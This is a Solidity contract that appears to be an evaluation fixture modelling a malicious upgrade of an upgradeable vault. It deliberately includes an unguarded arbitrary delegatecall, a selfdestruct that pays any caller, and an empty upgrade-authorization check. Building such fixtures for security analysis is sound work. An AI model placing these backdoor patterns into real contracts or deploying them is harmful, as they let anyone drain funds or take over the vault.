// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Initializable} from "@openzeppelin/contracts/proxy/utils/Initializable.sol";
import {UUPSUpgradeable} from "@openzeppelin/contracts/proxy/utils/UUPSUpgradeable.sol";

/**
 * @dev Evaluation fixture for the analyst: what a malicious upgrade of {EvalUpgradeableVault} installs.
 * Same storage layout, plus an unguarded arbitrary delegatecall and a SELFDESTRUCT. Not for deployment.
 */
contract EvalVaultBackdoor is Initializable, UUPSUpgradeable {
    address public owner;

    error EvalBackdoorFailed(bytes reason);

    receive() external payable {}

    /// @notice Runs any code in the vault's context: anyone may call it.
    function maintenance(address target, bytes calldata data) external returns (bytes memory) {
        (bool ok, bytes memory out) = target.delegatecall(data);
        if (!ok) revert EvalBackdoorFailed(out);
        return out;
    }

    /// @notice Sends the vault's balance to the caller.
    function retire() external {
        selfdestruct(payable(msg.sender));
    }

    function _authorizeUpgrade(address) internal pure override {}
}
